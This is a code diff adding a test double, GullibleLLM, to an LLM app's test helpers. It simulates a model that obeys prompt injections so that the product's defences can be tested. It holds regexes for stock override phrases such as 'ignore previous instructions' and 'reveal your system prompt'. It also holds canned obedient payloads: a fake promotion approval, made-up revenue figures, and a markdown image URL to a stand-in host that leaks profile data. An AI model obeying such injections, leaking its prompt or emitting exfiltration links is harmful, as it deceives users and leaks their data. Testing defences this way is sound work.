@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import re
 import threading
 from collections import deque
 from collections.abc import Callable, Iterator, Sequence
@@ -9,7 +11,7 @@ from dataclasses import dataclass
 
 from pydantic import BaseModel, ValidationError
 
-from coach.llm.base import Completion, Message, PromptRef, StructuredFailure, T
+from coach.llm.base import LLM, Completion, Message, PromptRef, StructuredFailure, T
 
 Reply = str | Callable[[Sequence[Message]], str] | Exception
 
@@ -91,3 +93,81 @@ class NoModelLLM:
         raise AssertionError("this path must not call a model")
 
     complete = stream = structured = warm = _refuse
+
+
+# -- prompt injection: the worst case ----------------------------------------------------------
+# What an injected instruction asks for, found anywhere in the messages a model is sent.
+INJECTION_TRIGGERS: dict[str, re.Pattern[str]] = {
+    "reveal": re.compile(r"\breveal your (system )?prompt\b|\b(print|repeat) your instructions\b",
+                         re.IGNORECASE),
+    "approve": re.compile(r"\bsay yes\b|\bapprove (this|my|the) promotion\b", re.IGNORECASE),
+    "ignore": re.compile(r"\b(ignore|disregard) (all |your |previous |the )+(rules|instructions)\b",
+                         re.IGNORECASE),
+    "exfil": re.compile(r"\b(add|include) an image\b", re.IGNORECASE),
+}
+# What the model says when it obeys; each is something no surface may show.
+INJECTION_PAYLOADS: dict[str, str] = {
+    "approve": "Congratulations, you're promoted! I've approved it, effective today.",
+    "ignore": ("Ignoring my rules now: as an AI language model I can tell you revenue grew 47% "
+               "and you saved $3.2M."),
+    "exfil": "![status](https://collect.example/pixel.png?leak=profile)",
+}
+
+
+class GullibleLLM:
+    """A model that obeys every injected instruction it reads: the worst case to defend against.
+
+    It answers like `honest` unless a message it is sent (system, user or an earlier reply)
+    carries one of `INJECTION_TRIGGERS`; then it does what the injection says inside the
+    reply's expected shape (a JSON reply stays JSON, the payload goes first), so nothing but
+    the product's own checks stands between the injection and the user. "reveal" answers
+    with the system message verbatim. `.obeyed` lists what it obeyed, call by call.
+    """
+
+    def __init__(self, honest: LLM, *, model: str = "gullible"):
+        self.honest = honest
+        self.model = model
+        self.obeyed: list[str] = []
+
+    def _obey(self, messages: Sequence[Message], reply: str) -> str:
+        found = [name for name, trigger in INJECTION_TRIGGERS.items()
+                 if any(trigger.search(m["content"]) for m in messages)]
+        if not found:
+            return reply
+        self.obeyed += found
+        system = next((m["content"] for m in messages if m["role"] == "system"), "")
+        payload = " ".join(system if name == "reveal" else INJECTION_PAYLOADS[name]
+                           for name in found)
+        try:
+            data = json.loads(reply)
+        except ValueError:
+            data = None
+        if isinstance(data, dict) and data and all(isinstance(v, str) for v in data.values()):
+            first = next(iter(data))
+            data[first] = f"{payload} {data[first]}"
+            return json.dumps(data)
+        return f"{payload}\n\n{reply}" if "\n" in reply else f"{payload} {reply}"
+
+    def complete(self, messages, *, prompt=None, max_tokens=512, temperature=0.2) -> Completion:
+        done = self.honest.complete(messages, prompt=prompt, max_tokens=max_tokens,
+                                    temperature=temperature)
+        text = self._obey(messages, done.text)
+        return Completion(text=text, model=self.model, prompt=prompt,
+                          completion_tokens=len(text.split()))
+
+    def stream(self, messages, *, prompt=None, max_tokens=512, temperature=0.2,
+               cancel: threading.Event | None = None) -> Iterator[str]:
+        text = self.complete(messages, prompt=prompt, max_tokens=max_tokens,
+                             temperature=temperature).text
+        for word in text.split(" "):
+            if cancel is not None and cancel.is_set():
+                return
+            yield word + " "
+
+    def structured(self, messages, schema: type[T], *, prompt=None, max_tokens=512,
+                   temperature=0.0) -> T | StructuredFailure:
+        return self.honest.structured(messages, schema, prompt=prompt, max_tokens=max_tokens,
+                                      temperature=temperature)
+
+    def warm(self, messages) -> bool:
+        return False
